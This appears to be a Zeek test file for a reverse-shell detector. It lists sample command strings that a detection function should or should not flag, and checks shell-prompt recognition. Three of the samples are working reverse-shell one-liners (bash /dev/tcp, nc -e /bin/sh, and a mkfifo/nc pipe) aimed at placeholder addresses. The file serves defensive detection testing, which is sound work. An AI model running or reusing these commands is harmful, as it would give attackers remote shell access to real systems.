# @TEST-EXEC: zeek -b %INPUT ../../scripts/detect-revshell.zeek >output
# @TEST-EXEC: btest-diff output

@load ../../scripts/detect-revshell.zeek

module Test;

global cases: table[string] of bool = {
    ["bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"] = T,
    ["nc -e /bin/sh 203.0.113.11 9001"] = T,
    ["rm /tmp/f; mkfifo /tmp/f; nc 203.0.113.12 443 </tmp/f"] = T,
    ["GET /dev/tcp-monitoring/dashboard"] = F,
    ["ncdu --exclude /bin"] = F,
};

event zeek_init() &priority=-5
    {
    for ( s, expected in cases )
        print fmt("%s %s", RevShell::is_oneliner(s) == expected ? "ok  " : "FAIL", s);
    print RevShell::is_prompt("bash-5.2$ ") ? "ok   prompt" : "FAIL prompt";
    print RevShell::is_prompt("HTTP/1.1 200 OK") ? "FAIL banner" : "ok   banner";
    }
